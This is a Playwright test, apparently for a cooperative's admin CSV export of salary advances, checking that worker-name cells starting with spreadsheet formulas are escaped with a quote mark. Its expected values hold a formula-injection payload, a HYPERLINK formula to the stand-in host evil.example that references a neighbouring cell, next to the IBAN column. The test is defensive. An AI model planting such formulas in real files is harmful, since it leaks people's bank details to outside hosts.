// The advances export: a worker named like a spreadsheet formula must come out
// as inert text, beside the IBAN column.
import { expect, test } from "@playwright/test";
import { signIn } from "../auth-state";

test("the advances CSV escapes a worker name that is a formula", async ({ page }) => {
  await signIn(page, "hugo.carriere@demo.coop-emploi.fr");
  const res = await page.request.get("/admin/acomptes/export?date=2025-03-05");
  expect(res.status()).toBe(200);
  const text = (await res.body()).toString("utf8");
  expect(text.startsWith("\uFEFF")).toBe(true);
  const line = text.split("\r\n").find((l) => l.includes("9703"));
  expect(line).toBeDefined();
  // Nom and Prénom cells start with a quote mark, never with = or @.
  expect(line).toContain(`"'=HYPERLINK(""HTTPS://EVIL.EXAMPLE/?V=""&E2;""CLIQUEZ"")"`);
  expect(line).toContain(";'@SOMME(A1:A9);");
  expect(line).not.toMatch(/;=|;@/);
});
